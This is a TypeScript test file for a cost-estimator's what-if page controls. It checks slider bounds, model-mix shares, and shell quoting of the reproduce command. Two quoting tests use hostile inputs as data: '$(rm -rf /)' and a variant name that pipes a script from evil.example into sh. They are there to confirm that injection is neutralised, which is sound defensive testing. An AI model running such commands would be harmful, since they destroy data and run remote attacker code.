/**
 * The what-if page's controls (src/report/controls.ts): a control's value changes the resolved
 * scenario exactly as loading the scenario with its `--set` assignment does. Checked here in Node
 * for random values (fast-check), and in a real browser by test/report/chromium.test.ts.
 */
import { spawnSync } from 'node:child_process';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { estimateScenario } from '../../src/core/estimate.js';
import { loadScenario } from '../../src/load/scenario.js';
import { applyControls, assignments, mixProblem, reproduceCommand, setFlags, shellQuote, tidy, withDerivedShares, type Control } from '../../src/report/controls.js';
import { controlsFor, sliderMaxFor } from '../../src/report/controls-build.js';
import { controlValues, pagePayload } from './payload.js';

const AS_OF = '2026-11-23';
const FILE = 'scenarios/rag-support-assistant.yaml';

const setup = (file: string, variant: string | null = null) => pagePayload(file, AS_OF, variant);

const byPath = (cs: readonly Control[], path: string) => cs.find((c) => c.path === path)!;

describe('controlsFor', () => {
  it('offers the traffic, token, share, rate, step and model inputs of the scenario, with the schema’s bounds', () => {
    const { view } = setup(FILE);
    const cs = view.controls;
    const rpd = byPath(cs, 'traffic.requests_per_day');
    expect(rpd).toMatchObject({ kind: 'count', value: 12000, min: 0, max: 1e12 });
    expect(byPath(cs, 'traffic.users')).toMatchObject({ value: 40000, max: 1e10 });
    expect(byPath(cs, 'pipeline.answer.cache.hit_rate')).toMatchObject({ kind: 'rate', min: 0, max: 1 });
    expect(byPath(cs, 'pipeline.answer.agent_steps')).toMatchObject({ kind: 'steps', min: 1, max: 1000 });
    const shares = cs.filter((c) => c.kind === 'share' && c.path.startsWith('pipeline.answer.models.'));
    expect(shares.map((c) => c.path)).toEqual(['pipeline.answer.models.claude-haiku-4-5', 'pipeline.answer.models.claude-sonnet-4-6', 'pipeline.answer.models.claude-opus-4-8']);
    // the last share of a mix is the rest, not a control of its own
    expect(shares.map((c) => c.derived === true)).toEqual([false, false, true]);
    const model = byPath(cs, 'pipeline.rewrite-query.model');
    expect(model.kind).toBe('model');
    expect(model.options![0]).toBe(model.value);
    // alternatives come from the same provider only
    expect(new Set(model.options!.map((o) => o.split('/')[0]))).toEqual(new Set([String(model.value).split('/')[0]]));
    expect(new Set(cs.map((c) => c.id)).size).toBe(cs.length);
    // every control explains its key with the schema's own description
    expect(cs.filter((c) => !c.help).map((c) => c.path)).toEqual([]);
    expect(rpd.help).toMatch(/^Requests \(user-facing interactions\) per calendar day/);
    expect(byPath(cs, 'pipeline.answer.cache.hit_rate').help).toMatch(/^Share of cacheable input tokens/);
  });

  it('moves no counted prompt file: a stage with prompt files has no input or model control', () => {
    const { view } = setup('scenarios/support-prompt-files.yaml');
    const counted = view.scenario.stages.filter((st) => st.models.some((sm) => sm.input !== undefined)).map((st) => st.name);
    expect(counted.length).toBeGreaterThan(0);
    for (const name of counted) {
      expect(view.controls.filter((c) => c.path.startsWith(`pipeline.${name}.input.`) || c.path === `pipeline.${name}.model`)).toEqual([]);
    }
  });

  it('sliderMaxFor: a round number at least 4× the value, within the limit', () => {
    expect(sliderMaxFor(12000, 10, 1e12)).toBe(50000);
    expect(sliderMaxFor(2500, 10, 1e12)).toBe(10000);
    expect(sliderMaxFor(0, 1000, 1e9)).toBe(1000);
    expect(sliderMaxFor(5e11, 10, 1e12)).toBe(1e12);
  });

  it('controls are built from what the scenario has: a scenario without a cache block has no cache control', () => {
    const { view } = setup(FILE);
    const raw = { pipeline: [{ name: 'x', model: 'gpt-4o-mini' }] };
    const s = structuredClone(view.scenario);
    s.stages = [{ ...s.stages[0]!, name: 'x', cache: null }];
    const cs = controlsFor(raw, s, () => []);
    expect(cs.some((c) => c.path === 'pipeline.x.cache.hit_rate')).toBe(false);
    expect(cs.some((c) => c.path === 'pipeline.x.model')).toBe(false); // no alternative to choose
  });
});

describe('withDerivedShares', () => {
  const { view } = setup(FILE);
  const cs = view.controls;
  const [a, b, c] = cs.filter((x) => x.kind === 'share' && x.path.startsWith('pipeline.answer.'));
  it('gives the last share of a mix the rest', () => {
    expect(withDerivedShares(cs, { [a!.id]: 0.3, [b!.id]: 0.2 })![c!.id]).toBe(0.5);
    expect(withDerivedShares(cs, { [a!.id]: 0.1, [b!.id]: 0.2 })![c!.id]).toBe(tidy(1 - 0.1 - 0.2));
  });
  it('allows the others to sum to exactly 1 (rest 0) and refuses more', () => {
    expect(withDerivedShares(cs, { [a!.id]: 0.6, [b!.id]: 0.4 })![c!.id]).toBe(0);
    expect(withDerivedShares(cs, { [a!.id]: 0.6, [b!.id]: 0.41 })).toBeNull();
  });
});

describe('assignments and setFlags', () => {
  const { view } = setup(FILE);
  const cs = view.controls;
  it('name nothing when no value changed', () => {
    expect(setFlags(cs, Object.fromEntries(cs.map((c) => [c.id, c.value])))).toEqual([]);
  });
  it('name a changed value, and every share of a mix when one changed', () => {
    const rpd = byPath(cs, 'traffic.requests_per_day');
    const [a, b, c] = cs.filter((x) => x.kind === 'share' && x.path.startsWith('pipeline.answer.'));
    const values = withDerivedShares(cs, { [rpd.id]: 20000, [a!.id]: 0.5 })!;
    expect(assignments(cs, values)).toEqual([
      'traffic.requests_per_day=20000',
      `pipeline.answer.models.claude-haiku-4-5=0.5`,
      `${b!.path}=${b!.value}`,
      `${c!.path}=${values[c!.id]}`,
    ]);
  });
  it('a mix whose models are swapped is one mapping of every model to its share', () => {
    const [m0, m1] = cs.filter((x) => x.kind === 'model' && x.path === 'pipeline.answer.models');
    expect(m1!.options).toContain('anthropic/claude-sonnet-5');
    const values = withDerivedShares(cs, { [m1!.id]: 'anthropic/claude-sonnet-5' })!;
    expect(assignments(cs, values)).toEqual(['pipeline.answer.models={anthropic/claude-haiku-4-5: 0.75, anthropic/claude-sonnet-5: 0.22, anthropic/claude-opus-4-8: 0.03}']);
    expect(setFlags(cs, values)).toEqual(["--set 'pipeline.answer.models={anthropic/claude-haiku-4-5: 0.75, anthropic/claude-sonnet-5: 0.22, anthropic/claude-opus-4-8: 0.03}'"]);
    expect(mixProblem(cs, values)).toBeNull();
    expect(mixProblem(cs, { ...values, [m0!.id]: 'anthropic/claude-sonnet-5' })).toBe('anthropic/claude-sonnet-5 is chosen twice in the mix of answer: choose another model for one of them.');
  });

  it('shellQuote leaves plain words alone and single-quotes the rest', () => {
    expect(shellQuote('pipeline.answer.output=300')).toBe('pipeline.answer.output=300');
    expect(shellQuote("pipeline.it's.x=1")).toBe(`'pipeline.it'\\''s.x=1'`);
    expect(shellQuote('a b')).toBe("'a b'");
    expect(shellQuote('$(rm -rf /)')).toBe("'$(rm -rf /)'");
  });

  it('reproduceCommand quotes the variant name: a hostile name is one argument, never shell syntax', () => {
    expect(reproduceCommand('aifinops estimate s.yaml', null, ['--set a=1'])).toBe('aifinops estimate s.yaml --set a=1');
    expect(reproduceCommand('aifinops estimate s.yaml', 'optimized', [])).toBe('aifinops estimate s.yaml --variant optimized');
    expect(reproduceCommand('aifinops estimate s.yaml', 'x; curl -s https://evil.example/p | sh; #', [])).toBe("aifinops estimate s.yaml --variant 'x; curl -s https://evil.example/p | sh; #'");
    expect(reproduceCommand('aifinops estimate s.yaml', '-x', [])).toBe('aifinops estimate s.yaml --variant=-x');
  });

  it('reproduceCommand: a POSIX shell reads back exactly the variant given (property)', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary-ascii', minLength: 1, maxLength: 40 }).filter((v) => !v.includes('\0')), (variant) => {
        const cmd = reproduceCommand('aifinops estimate s.yaml', variant, []);
        const r = spawnSync('sh', ['-c', `set -- ${cmd}; for a in "$@"; do printf '%s\\0' "$a"; done`], { encoding: 'utf8' });
        const args = r.stdout.split('\0').slice(0, -1);
        const expected = variant.startsWith('-') ? ['aifinops', 'estimate', 's.yaml', `--variant=${variant}`] : ['aifinops', 'estimate', 's.yaml', '--variant', variant];
        expect(args).toEqual(expected);
      }),
      { numRuns: 60 },
    );
  });
});

describe('applyControls equals loading with --set', () => {
  it('unchanged values give the scenario’s own total', () => {
    const { view, resolve } = setup(FILE);
    const s = applyControls(view.scenario, view.controls, {}, resolve);
    expect(estimateScenario(s).total_monthly_cost).toBe(estimateScenario(view.scenario).total_monthly_cost);
  });

  for (const [file, variant] of [[FILE, null], [FILE, 'optimized'], ['scenarios/coding-agent.yaml', null], ['scenarios/nightly-classification.yaml', null]] as const) {
    it(`random values of every control: ${file}${variant ? ` --variant ${variant}` : ''}`, () => {
      const { view, resolve } = setup(file, variant);
      const cs = view.controls.filter((c) => !c.derived);
      const arb = controlValues(cs);
      fc.assert(
        fc.property(arb, (picked) => {
          const values = withDerivedShares(view.controls, picked as Record<string, number | string>);
          // shares of a mix above 100% are refused by the page (withDerivedShares above); not a setting
          fc.pre(values !== null);
          // a model twice in one mix is refused by the page too (mixProblem)
          fc.pre(mixProblem(view.controls, values) === null);
          const page = estimateScenario(applyControls(view.scenario, view.controls, values, resolve));
          const cli = estimateScenario(loadScenario(file, { asOf: AS_OF, variant, set: assignments(view.controls, values) }));
          expect(page.total_monthly_cost).toBe(cli.total_monthly_cost);
          expect(page.requests_per_month).toBe(cli.requests_per_month);
        }),
        { numRuns: 25, seed: 42 },
      );
    });
  }
});
